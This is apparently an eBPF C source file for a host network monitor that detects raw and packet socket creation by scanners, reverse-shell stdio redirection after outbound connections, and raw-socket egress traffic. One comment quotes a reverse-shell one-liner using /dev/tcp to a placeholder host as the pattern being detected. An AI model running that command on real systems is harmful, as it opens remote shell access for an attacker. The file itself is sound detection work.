/* outbound.bpf.c - who opens raw and packet sockets.
 *
 * Raw (SOCK_RAW) and packet (AF_PACKET) sockets send packets that never pass
 * through connect(): nmap -sS, masscan, hping3 and home-made SYN scanners are
 * invisible to conn_monitor.bpf.c. socket() itself is the one moment every
 * such tool must go through, so the syscall tracepoints syscalls:sys_enter_socket
 * and sys_exit_socket (stable tracepoint formats; no kprobes needed) watch it:
 * enter remembers the arguments of an interesting call per thread, exit reports
 * it when the socket was really created. Everything else (TCP, UDP, netlink,
 * unix sockets: nearly all calls) is dropped in the kernel at enter.
 *
 * ns_egress (TCX egress on the monitored interface, attached only with one)
 * counts what raw and packet sockets actually send: packets whose socket
 * (skb->sk, a UAPI struct bpf_sock) is SOCK_RAW or AF_PACKET, per socket
 * cookie x destination x protocol x port, aggregated in an LRU map that the
 * loader reads and empties on an interval. Packets of ordinary sockets cost
 * one pointer test and one field read; forwarded packets (no socket) none.
 *
 * Own file and structs (bpf/netsentinel.h belongs to the enforcement side).
 * Only UAPI values and tracepoint formats are used.
 */
#include <uapi/linux/bpf.h>
#include <uapi/linux/if_ether.h>
#include <uapi/linux/in.h>
#include <uapi/linux/ip.h>
#include <uapi/linux/ipv6.h>
#include <uapi/linux/tcp.h>
#include <uapi/linux/udp.h>

#define NS_AF_INET 2
#define NS_AF_INET6 10
#define NS_AF_PACKET 17
#define NS_SOCK_TYPE_MASK 0xf   /* type also carries SOCK_NONBLOCK / SOCK_CLOEXEC */
#define NS_SOCK_RAW 3
#define NS_SOCK_PACKET 10       /* obsolete AF_INET packet socket: still a raw sender */

#ifndef NS_RAW_PENDING
#define NS_RAW_PENDING 4096
#endif
#ifndef NS_EXEC_PATHS
#define NS_EXEC_PATHS 16384
#endif
#define NS_PATH_LEN 128

/* The path each process was started with (sched:sched_process_exec), kept
 * per tgid in an LRU map: a ping or a one-shot scanner has often exited
 * before its event is read from /proc, and its comm is whatever it chose. */
struct ns_exec_path {
    char path[NS_PATH_LEN];
};

struct ns_raw_args {
    u32 family;
    u32 type;
    u32 protocol;
};

/* One raw or packet socket that was created. */
struct ns_raw_event {
    u64 ts_ns;
    u32 pid;        /* tgid */
    u32 tid;
    u32 uid;
    s32 fd;         /* what socket() returned */
    u32 family;
    u32 type;       /* as passed, flags included */
    u32 protocol;   /* as passed: packet sockets give an ethertype in network order */
    char comm[16];
    char exec_path[NS_PATH_LEN];   /* empty: started before the loader */
};

BPF_HASH(raw_pending, u32, struct ns_raw_args, NS_RAW_PENDING);
BPF_TABLE("lru_hash", u32, struct ns_exec_path, exec_paths, NS_EXEC_PATHS);
BPF_PERF_OUTPUT(raw_events);
BPF_PERCPU_ARRAY(raw_scratch, struct ns_raw_event, 1);   /* too big for the BPF stack */

TRACEPOINT_PROBE(sched, sched_process_exec)
{
    u32 tgid = bpf_get_current_pid_tgid() >> 32;
    struct ns_exec_path p = {};
    TP_DATA_LOC_READ_STR(&p.path, filename, sizeof(p.path));
    exec_paths.update(&tgid, &p);
    return 0;
}

TRACEPOINT_PROBE(syscalls, sys_enter_socket)
{
    u32 family = (u32)args->family;
    u32 type = (u32)args->type & NS_SOCK_TYPE_MASK;
    int inet = family == NS_AF_INET || family == NS_AF_INET6;
    if (!(family == NS_AF_PACKET || (inet && (type == NS_SOCK_RAW || type == NS_SOCK_PACKET))))
        return 0;
    u32 tid = (u32)bpf_get_current_pid_tgid();
    struct ns_raw_args a = {};
    a.family = family;
    a.type = (u32)args->type;
    a.protocol = (u32)args->protocol;
    raw_pending.update(&tid, &a);
    return 0;
}

TRACEPOINT_PROBE(syscalls, sys_exit_socket)
{
    u64 pid_tgid = bpf_get_current_pid_tgid();
    u32 tid = (u32)pid_tgid;
    struct ns_raw_args *a = raw_pending.lookup(&tid);
    if (!a)
        return 0;
    u32 zero = 0;
    struct ns_raw_event *e = raw_scratch.lookup(&zero);
    if (!e) {
        raw_pending.delete(&tid);
        return 0;
    }
    e->family = a->family;
    e->type = a->type;
    e->protocol = a->protocol;
    raw_pending.delete(&tid);
    if (args->ret < 0)
        return 0;   /* refused (no CAP_NET_RAW): nothing was opened */
    e->ts_ns = bpf_ktime_get_ns();
    e->pid = pid_tgid >> 32;
    e->tid = tid;
    e->uid = (u32)bpf_get_current_uid_gid();
    e->fd = (s32)args->ret;
    bpf_get_current_comm(&e->comm, sizeof(e->comm));
    struct ns_exec_path *p = exec_paths.lookup(&e->pid);
    if (p)
        __builtin_memcpy(e->exec_path, p->path, sizeof(e->exec_path));
    else
        e->exec_path[0] = 0;
    raw_events.perf_submit(args, e, sizeof(*e));
    return 0;
}

/* ------------------------------------------------- stdio redirections */
/* A reverse shell may connect first and move the socket onto its stdin or
 * stdout whenever it likes (`exec 3<>/dev/tcp/H/443; sleep 5; exec sh <&3
 * >&3`). Processes that started an outbound TCP connection (and what they
 * fork) are remembered; a dup()/dup2()/dup3() of theirs that lands on fd 0
 * or 1 is reported, and the loader then looks at what fd 0/1 became. */
#ifndef NS_CONNECTED
#define NS_CONNECTED 16384
#endif

struct ns_stdio_event {
    u64 ts_ns;
    u32 pid;
    u32 tid;
    u32 uid;
    s32 newfd;
    char comm[16];
};

BPF_TABLE("lru_hash", u32, u8, connected, NS_CONNECTED);
BPF_PERF_OUTPUT(stdio_events);

TRACEPOINT_PROBE(sock, inet_sock_set_state)
{
    if (args->protocol != IPPROTO_TCP || args->newstate != BPF_TCP_SYN_SENT)
        return 0;
    u32 tgid = bpf_get_current_pid_tgid() >> 32;
    u8 one = 1;
    connected.update(&tgid, &one);
    return 0;
}

TRACEPOINT_PROBE(sched, sched_process_fork)
{
    u32 parent = bpf_get_current_pid_tgid() >> 32;
    if (!connected.lookup(&parent))
        return 0;
    u32 child = args->child_pid;
    u8 one = 1;
    connected.update(&child, &one);
    return 0;
}

static __always_inline int ns_stdio_dup(void *ctx, long ret)
{
    if (ret != 0 && ret != 1)
        return 0;
    u64 pid_tgid = bpf_get_current_pid_tgid();
    u32 tgid = pid_tgid >> 32;
    if (!connected.lookup(&tgid))
        return 0;
    struct ns_stdio_event e = {};
    e.ts_ns = bpf_ktime_get_ns();
    e.pid = tgid;
    e.tid = (u32)pid_tgid;
    e.uid = (u32)bpf_get_current_uid_gid();
    e.newfd = (s32)ret;
    bpf_get_current_comm(&e.comm, sizeof(e.comm));
    stdio_events.perf_submit(ctx, &e, sizeof(e));
    return 0;
}

TRACEPOINT_PROBE(syscalls, sys_exit_dup2) { return ns_stdio_dup(args, args->ret); }
TRACEPOINT_PROBE(syscalls, sys_exit_dup3) { return ns_stdio_dup(args, args->ret); }
TRACEPOINT_PROBE(syscalls, sys_exit_dup) { return ns_stdio_dup(args, args->ret); }

/* ------------------------------------------------------------- egress */
#ifndef NS_EGRESS_ENTRIES
#define NS_EGRESS_ENTRIES 65536
#endif
#define NS_TCX_NEXT -1   /* TCX_NEXT / TC_ACT_UNSPEC: let the packet go on */

struct ns_egress_key {
    u64 cookie;     /* the sending socket (SO_COOKIE) */
    u8 daddr[16];   /* network order; IPv4 in the first 4 bytes */
    u16 dport;      /* host order; 0 for ICMP */
    u8 family;      /* 4 or 6 */
    u8 proto;       /* IPPROTO_TCP / UDP / ICMP / ICMPV6 */
    u32 pad;
};

struct ns_egress_val {
    u64 packets;
    u64 syns;       /* TCP with SYN and no ACK */
};

BPF_TABLE("lru_hash", struct ns_egress_key, struct ns_egress_val, egress_stats, NS_EGRESS_ENTRIES);

int ns_egress(struct __sk_buff *skb)
{
    struct bpf_sock *sk = skb->sk;
    if (!sk)
        return NS_TCX_NEXT;
    sk = bpf_sk_fullsock(sk);
    if (!sk)
        return NS_TCX_NEXT;
    u32 family = sk->family, type = sk->type;
    if (!(family == NS_AF_PACKET || type == NS_SOCK_RAW || type == NS_SOCK_PACKET))
        return NS_TCX_NEXT;

    struct ns_egress_key k = {};
    struct ethhdr eth;
    if (bpf_skb_load_bytes(skb, 0, &eth, sizeof(eth)) < 0)
        return NS_TCX_NEXT;
    u32 off = sizeof(eth);
    u8 proto;
    if (eth.h_proto == htons(ETH_P_IP)) {
        struct iphdr ip;
        if (bpf_skb_load_bytes(skb, off, &ip, sizeof(ip)) < 0)
            return NS_TCX_NEXT;
        if (ip.frag_off & htons(0x1fff))
            return NS_TCX_NEXT;   /* a later fragment has no ports */
        k.family = 4;
        __builtin_memcpy(k.daddr, &ip.daddr, 4);
        proto = ip.protocol;
        off += ip.ihl * 4;
    } else if (eth.h_proto == htons(ETH_P_IPV6)) {
        struct ipv6hdr ip6;
        if (bpf_skb_load_bytes(skb, off, &ip6, sizeof(ip6)) < 0)
            return NS_TCX_NEXT;
        k.family = 6;
        __builtin_memcpy(k.daddr, &ip6.daddr, 16);
        proto = ip6.nexthdr;      /* extension headers are not followed */
        off += sizeof(ip6);
    } else {
        return NS_TCX_NEXT;
    }
    u8 syn = 0;
    if (proto == IPPROTO_TCP) {
        struct tcphdr th;
        if (bpf_skb_load_bytes(skb, off, &th, sizeof(th)) < 0)
            return NS_TCX_NEXT;
        k.dport = ntohs(th.dest);
        syn = th.syn && !th.ack;
    } else if (proto == IPPROTO_UDP) {
        struct udphdr uh;
        if (bpf_skb_load_bytes(skb, off, &uh, sizeof(uh)) < 0)
            return NS_TCX_NEXT;
        k.dport = ntohs(uh.dest);
    } else if (proto == 58) {   /* ICMPv6 */
        u8 icmp6_type;
        if (bpf_skb_load_bytes(skb, off, &icmp6_type, 1) < 0)
            return NS_TCX_NEXT;
        if (icmp6_type >= 130 && icmp6_type <= 143)
            return NS_TCX_NEXT;   /* MLD and neighbour discovery: the kernel's own */
    } else if (proto != IPPROTO_ICMP) {
        return NS_TCX_NEXT;
    }
    k.proto = proto;
    k.cookie = bpf_get_socket_cookie(skb);
    struct ns_egress_val *v = egress_stats.lookup(&k);
    if (!v) {
        struct ns_egress_val zero = {};
        egress_stats.update(&k, &zero);
        v = egress_stats.lookup(&k);
        if (!v)
            return NS_TCX_NEXT;
    }
    __sync_fetch_and_add(&v->packets, 1);
    if (syn)
        __sync_fetch_and_add(&v->syns, 1);
    return NS_TCX_NEXT;
}
